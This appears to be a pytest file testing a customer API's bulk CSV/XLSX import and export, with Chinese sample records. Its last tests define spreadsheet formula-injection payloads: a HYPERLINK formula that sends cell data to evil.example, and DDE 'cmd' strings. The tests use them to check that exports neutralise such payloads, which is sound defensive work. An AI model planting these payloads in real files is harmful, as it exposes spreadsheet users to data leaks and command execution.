"""Bulk import (CSV, XLSX; dry run; create / update / upsert; never a duplicate) and export of a search."""
from __future__ import annotations

import csv
import io
import time

import pytest
from openpyxl import Workbook, load_workbook
from servicekit.testing import auth_headers

WRITER = auth_headers("agent", "li.si")
READER = auth_headers("viewer", "wang.wu")
HEADER = "name,phone,kind,birthday,city,tags,email\n"


def upload(client, content: bytes, filename: str = "customers.csv", **options) -> dict:
    """Send a file to import and wait for the import to finish; its final state."""
    data = {"file": (io.BytesIO(content), filename), **{k: str(v).lower() for k, v in options.items()}}
    response = client.post("/api/v1/customers/imports", data=data, headers=WRITER, content_type="multipart/form-data")
    assert response.status_code == 202, response.get_json()
    location = response.headers["Location"]
    deadline = time.monotonic() + 20
    while (job := client.get(location, headers=READER).get_json())["status"] == "running":
        assert time.monotonic() < deadline, job
        time.sleep(0.05)
    return job


def errors_of(client, job) -> list[tuple[int, str]]:
    body = client.get(f"/api/v1/customers/imports/{job['id']}/errors", headers=READER).get_json()
    return [(error["line"], error["column"]) for error in body["items"]]


def customers(client, query: str = "") -> list[dict]:
    return client.get(f"/api/v1/customers?page_size=200&{query}", headers=READER).get_json()["items"]


BAD_FILE = (HEADER
            + "张伟,13800138000,owner,1985-03-02,深圳市,VIP;车队,zhang@example.cn\n"   # line 2: fine
            + "王芳,12345,prospect,,,,\n"                                             # 3: not a phone
            + "李娜,13900139000,vip,,,,\n"                                            # 4: no such kind
            + "赵六,13700137000,owner,1990-13-45,,,\n"                                # 5: no such date
            + "刘洋,138 0013 8000,owner,,,,\n"                                        # 6: the phone of line 2
            + ",13600136000,owner,,,,not-an-email\n"                                  # 7: no name, bad email
            + "陈静,13500135000,prospect,,广州市,,\n").encode()                       # 8: fine


def test_a_dry_run_reports_every_bad_cell_by_line_and_column_and_writes_nothing(client, events):
    job = upload(client, BAD_FILE, dry_run=True)
    assert job["status"] == "done" and job["dry_run"] is True
    assert (job["rows_total"], job["rows_done"], job["created"], job["failed"]) == (7, 7, 2, 5)
    assert errors_of(client, job) == [(3, "phone"), (4, "kind"), (5, "birthday"), (6, "phone"), (7, "email"),
                                      (7, "name")]
    assert customers(client) == [] and events() == []


def test_a_real_import_creates_the_good_rows_with_one_created_event_each(client, events):
    job = upload(client, BAD_FILE)
    assert (job["created"], job["failed"]) == (2, 5)
    names = {c["name"]: c for c in customers(client)}
    assert set(names) == {"张伟", "陈静"}
    assert names["张伟"]["tags"] == ["VIP", "车队"] and names["张伟"]["birthday"] == "1985-03-02"
    assert names["张伟"]["region"]["city"] == "深圳市" and names["张伟"]["phone"] == "+8613800138000"
    created = [event for event in events() if event.type == "customer.created.v1"]
    assert sorted(event.data["name"] for event in created) == ["张伟", "陈静"]
    assert {event.subject for event in created} == {c["id"] for c in names.values()}
    assert [c["id"] for c in customers(client, "q=zhangwei")] == [names["张伟"]["id"]]
    history = client.get(f"/api/v1/customers/{names['张伟']['id']}/history", headers=READER).get_json()
    assert history["items"][0]["action"] == "imported" and history["items"][0]["actor"] == "li.si"


def test_create_never_makes_a_second_customer_of_a_known_phone(client, new_customer):
    existing = new_customer(name="张伟", phone="13800138000")
    job = upload(client, (HEADER + "张伟,+86 138 0013 8000,owner,,,,\n").encode())
    assert (job["created"], job["failed"]) == (0, 1)
    assert errors_of(client, job) == [(2, "phone")]
    assert [c["id"] for c in customers(client)] == [existing["id"]]


def test_upsert_by_phone_updates_known_creates_new_and_a_second_run_changes_nothing(client, new_customer, events):
    existing = new_customer(name="张伟", phone="13800138000", kind="prospect")
    content = (HEADER + "张伟,13800138000,owner,1985-03-02,,VIP,\n" + "李娜,13900139000,prospect,,,,\n").encode()
    job = upload(client, content, mode="upsert")
    assert (job["created"], job["updated"], job["unchanged"], job["failed"]) == (1, 1, 0, 0)
    updated = client.get(f"/api/v1/customers/{existing['id']}", headers=READER).get_json()
    assert updated["kind"] == "owner" and updated["tags"] == ["VIP"] and updated["version"] == 2
    assert [e.type for e in events()].count("customer.updated.v1") == 1
    again = upload(client, content, mode="upsert")
    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 2)
    assert len(customers(client)) == 2


def test_update_mode_keyed_by_external_id_and_a_key_twice_in_the_file(client, new_customer):
    new_customer(name="张伟", phone="13800138000", external_id="DMS-1")
    content = ("external_id,notes\nDMS-1,老客户\nDMS-2,新客户\nDMS-1,重复\n").encode()
    job = upload(client, content, mode="update", key="external_id")
    assert (job["updated"], job["failed"]) == (1, 2)
    assert errors_of(client, job) == [(3, "external_id"), (4, "external_id")]
    assert customers(client)[0]["notes"] == "老客户"


def test_xlsx_with_chinese_headings_and_numbers_typed_as_numbers(client):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "手机", "客户类型", "性别", "生日"])
    sheet.append(["黄晓明", 13800138000, "保有客户", "男", None])
    sheet.append([None, None, None, None, None])
    sheet.append(["杨颖", 13900139000, "意向客户", "女", "1989-02-28"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    job = upload(client, buffer.getvalue(), filename="客户.xlsx")
    assert (job["created"], job["failed"], job["format"], job["rows_total"], job["rows_done"]) == (2, 0, "xlsx", 2, 2)
    found = {c["name"]: c for c in customers(client)}
    assert found["黄晓明"]["kind"] == "owner" and found["黄晓明"]["gender"] == "male"
    assert found["杨颖"]["phone"] == "+8613900139000" and found["杨颖"]["birthday"] == "1989-02-28"


def test_a_csv_from_chinese_excel_in_gb18030(client):
    job = upload(client, "姓名,手机,类型\n王芳,13912345678,意向客户\n".encode("gb18030"))
    assert job["created"] == 1 and customers(client)[0]["name"] == "王芳"


@pytest.mark.parametrize("content,filename,field", [
    (b"name,phone,colour\n", "a.csv", "colour"),
    (b"name,name\n", "a.csv", "name"),
    (b"not a workbook", "a.xlsx", "file"),
    (b"name,phone\n", "a.txt", "file"),
])
def test_files_that_cannot_be_imported_are_422s_naming_what_is_wrong(client, content, filename, field):
    response = client.post("/api/v1/customers/imports", headers=WRITER, content_type="multipart/form-data",
                           data={"file": (io.BytesIO(content), filename)})
    assert response.status_code == 422, response.get_json()
    assert field in response.get_json()["errors"]


def test_import_options_are_checked(client):
    response = client.post("/api/v1/customers/imports", headers=WRITER, content_type="multipart/form-data",
                           data={"file": (io.BytesIO(b"name,phone,kind\n"), "a.csv"), "mode": "replace"})
    assert response.status_code == 422 and "mode" in response.get_json()["errors"]
    assert client.post("/api/v1/customers/imports", headers=READER, content_type="multipart/form-data",
                       data={"file": (io.BytesIO(b"name\n"), "a.csv")}).status_code == 403
    assert client.get("/api/v1/customers/imports/6f1c1b9e-0000-4000-8000-000000000000",
                      headers=READER).status_code == 404


def test_export_a_search_as_csv_best_first_and_import_it_back_unchanged(client, new_customer):
    new_customer(name="张三", phone="13800138000", tags=["VIP"], region={"province": "广东省", "city": "深圳市"})
    new_customer(name="李张三", phone="13900139000", consent={"sms": True})
    new_customer(name="王芳", phone="13700137000")
    response = client.get("/api/v1/customers/export?q=zhangsan", headers=READER)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["name"] for row in rows] == ["张三", "李张三"]
    assert rows[0]["tags"] == "VIP" and rows[0]["city"] == "深圳市" and rows[1]["consent_sms"] == "True"
    job = upload(client, text.encode("utf-8"), mode="upsert")
    assert (job["unchanged"], job["created"], job["updated"], job["failed"]) == (2, 0, 0, 0)


def test_export_as_xlsx(client, new_customer):
    new_customer(name="张三", phone="13800138000")
    response = client.get("/api/v1/customers/export?format=xlsx", headers=READER)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data()), read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("id", "external_id", "name") and rows[1][2] == "张三"


def test_export_refuses_bad_filters(client):
    response = client.get("/api/v1/customers/export?format=pdf&phone=12", headers=READER)
    assert response.status_code == 422 and {"format", "phone"} & set(response.get_json()["errors"])


def test_an_erased_customer_takes_no_changes_from_an_import(client, new_customer):
    erased = new_customer(name="张伟", phone="13800138000", external_id="DMS-9")
    assert client.post(f"/api/v1/customers/{erased['id']}/erasure", headers=auth_headers("manager", "chen.jie")
                       ).status_code == 200
    job = upload(client, b"external_id,notes\nDMS-9,again\n", mode="update", key="external_id")
    assert (job["updated"], job["failed"]) == (0, 1) and errors_of(client, job) == [(2, "external_id")]
    assert client.get(f"/api/v1/customers/{erased['id']}", headers=READER).get_json()["notes"] is None


#: What a spreadsheet reads as a formula: text starting with one of these (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "address": "@SUM(1+1)*cmd|' /C calc'!A0",
           "employer": "-2+3+cmd|' /C calc'!A0", "notes": "+86 138 0013 8000, call after 6",
           "job_title": "'=already quoted",
           "tags": ["VIP", "=1+1"]}


def test_a_csv_export_has_no_cell_a_spreadsheet_would_evaluate_and_imports_back_unchanged(client, new_customer):
    customer = new_customer(phone="13800138000", **HOSTILE)
    response = client.get("/api/v1/customers/export", headers=READER)
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2 and rows[1][0] == customer["id"]
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["name"] == "'" + HOSTILE["name"] and exported["phone"] == "'+8613800138000"
    # a spreadsheet set to semicolons splits no text cell: each is enclosed in double quotes
    assert [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row
            if cell.startswith(FORMULA_START)] == []
    job = upload(client, text.encode("utf-8"), mode="upsert")
    assert (job["unchanged"], job["updated"], job["failed"]) == (1, 0, 0)
    again = client.get(f"/api/v1/customers/{customer['id']}", headers=READER).get_json()
    assert again == customer and again["phone"] == "+8613800138000"


def test_an_xlsx_export_writes_text_as_text_never_a_formula_and_imports_back_unchanged(client, new_customer):
    customer = new_customer(phone="13800138000", **HOSTILE, external_id="#N/A")
    body = client.get("/api/v1/customers/export?format=xlsx", headers=READER).get_data()
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}
    # no "f" (formula), no "e" (error)
    assert {cell.data_type for cell in cells.values() if cell.value is not None} <= {"s", "n", "b"}
    assert cells["name"].value == HOSTILE["name"] and cells["external_id"].value == "#N/A"
    assert cells["name"].quotePrefix and cells["phone"].quotePrefix  # stays text when someone edits it
    assert cells["points_balance"].data_type == "n"
    job = upload(client, body, filename="customers.xlsx", mode="upsert")
    assert (job["unchanged"], job["updated"], job["failed"]) == (1, 0, 0)
    assert client.get(f"/api/v1/customers/{customer['id']}", headers=READER).get_json() == customer
